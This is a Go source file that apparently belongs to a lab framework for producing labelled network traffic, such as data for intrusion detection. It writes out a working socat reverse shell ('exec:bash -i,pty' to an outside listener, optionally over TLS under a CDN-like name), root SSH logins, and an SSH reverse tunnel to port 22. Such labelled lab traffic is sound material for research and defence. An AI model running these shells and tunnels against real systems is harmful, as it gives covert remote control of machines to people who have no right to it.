package campaign

import (
	"fmt"
	"regexp"

	"tyto/lab"
	"tyto/lab/label"
	"tyto/lab/pki"
	"tyto/lab/ssh"
	"tyto/lab/sshmore"
)

// Control is how somebody outside works at a prompt inside.
type Control struct {
	Terminal *lab.Terminal
	Flows    lab.Selector
	Ready    func()       // called when the prompt is there
	Close    func() error // called when the person has left
}

// Reverse is a reverse shell from the client to a listener outside: kind is
// "tls" or "plain". It sends keys.
func Reverse(kind string) func(*Campaign) (*Control, error) {
	return func(c *Campaign) (*Control, error) {
		listen, open := "tcp-listen:%s,reuseaddr", "tcp:%s:%s"
		if kind == "tls" {
			listen, open = "openssl-listen:%s,reuseaddr,cert=both,verify=0", "openssl:%s:%s,verify=0"
			if err := c.certify(); err != nil {
				return nil, err
			}
		}
		c.run.Installed(c.Client, "socat")
		c.run.Installed(c.Server, "socat")
		port := c.run.Param("port")
		t, err := c.Server.Terminal(c.ctx, lab.Command{Args: []string{"socat", "-d", "-d", "-,rawer", fmt.Sprintf(listen, port)}}, c.run.Param("terminal"))
		if err != nil {
			return nil, err
		}
		if err := c.Server.WaitListen(c.ctx, "tcp", c.run.ParamInt("port")); err != nil {
			return nil, err
		}
		p, err := c.Client.Start(c.ctx, lab.Command{
			Args: []string{"socat", "exec:bash -i,pty,stderr,setsid,sigint,sane", fmt.Sprintf(open, c.Server.Addr(), port)},
			Env:  []string{"TERM=" + c.run.Param("term"), "HOME=/root"},
		})
		if err != nil {
			return nil, err
		}
		sel := lab.Of(p).And(lab.Service(c.Server, "tcp", c.run.ParamInt("port")))
		c.run.Label(sel, label.ReverseShell)
		began := func() {}
		if kind == "tls" {
			began = c.run.Segment(sel, label.StateHandshake, "")
		}
		if _, err := t.Expect(c.ctx, regexp.MustCompile(`starting data transfer loop.*\n`)); err != nil {
			return nil, fmt.Errorf("%w\nthe client says %s", err, p.Output())
		}
		return &Control{t, sel, began, func() error { return nil }}, nil
	}
}

// certify gives the listener a certificate.
func (c *Campaign) certify() error {
	authority, err := pki.New(c.run, "cdn-sync.example")
	if err != nil {
		return err
	}
	cert, err := authority.Issue("ecdsa", "cdn-sync.example")
	if err != nil {
		return err
	}
	return c.Server.Write("both", cert.Chain+cert.Key, 0o600)
}

// Login is an administrator's login from outside at the client, which is a jump
// host.
func Login(c *Campaign) (*Control, error) {
	d, err := sshmore.NewDesk(c.ctx, c.run, c.Client, ssh.Options{})
	if err != nil {
		return nil, err
	}
	t, err := c.becomeRoot(d, d.Host.Addr().String())
	if err != nil {
		return nil, err
	}
	sel := lab.Of(t.Process)
	c.run.Label(sel, label.Shell)
	return &Control{t, sel, c.run.Segment(sel, label.StateHandshake, ""), func() error { return nil }}, nil
}

// becomeRoot logs in from the server outside at a desk, as root with a key; at
// is the address where the desk is reached.
func (c *Campaign) becomeRoot(d *sshmore.Desk, at string, options ...string) (*lab.Terminal, error) {
	client, err := sshmore.NewClient(c.ctx, c.run, c.Server, "openssh", d)
	if err != nil {
		return nil, err
	}
	if err := d.Server.Authorize(c.ctx, "root", client); err != nil {
		return nil, err
	}
	args := client.Args(ssh.Login{Server: d.Server, User: "root", Options: options})
	args[len(args)-1] = "root@" + at
	return c.Server.Terminal(c.ctx, lab.Command{Args: args}, c.run.Param("terminal"))
}

// Tunnelled is a login through a reverse tunnel that the client opened to the
// server outside.
func Tunnelled(c *Campaign) (*Control, error) {
	far, err := sshmore.NewDesk(c.ctx, c.run, c.Server, ssh.Options{Port: c.run.ParamInt("port")})
	if err != nil {
		return nil, err
	}
	near, err := sshmore.NewDesk(c.ctx, c.run, c.Client, ssh.Options{})
	if err != nil {
		return nil, err
	}
	out, err := sshmore.NewClient(c.ctx, c.run, c.Client, "openssh", far)
	if err != nil {
		return nil, err
	}
	port := 10000 + c.run.Rand().IntN(50000)
	tunnel, err := c.Client.Start(c.ctx, lab.Command{Args: out.Args(ssh.Login{Server: far.Server, User: far.User, Options: []string{"-N", "-R", fmt.Sprintf("%d:127.0.0.1:22", port)}})})
	if err != nil {
		return nil, err
	}
	sel := lab.Of(tunnel)
	c.run.Label(sel, label.ReverseTunnel, label.ReverseShell)
	handshake := c.run.Segment(sel, label.StateHandshake, "-R")
	if err := c.Server.WaitListen(c.ctx, "tcp", port); err != nil {
		return nil, err
	}
	handshake()
	t, err := c.becomeRoot(near, "127.0.0.1", "-o", "StrictHostKeyChecking=accept-new", "-p", fmt.Sprint(port))
	if err != nil {
		return nil, err
	}
	return &Control{t, sel, c.run.Segment(sel, label.StateTunnel, "handshake, tcp 127.0.0.1:22"), func() error { tunnel.Stop(); return nil }}, nil
}
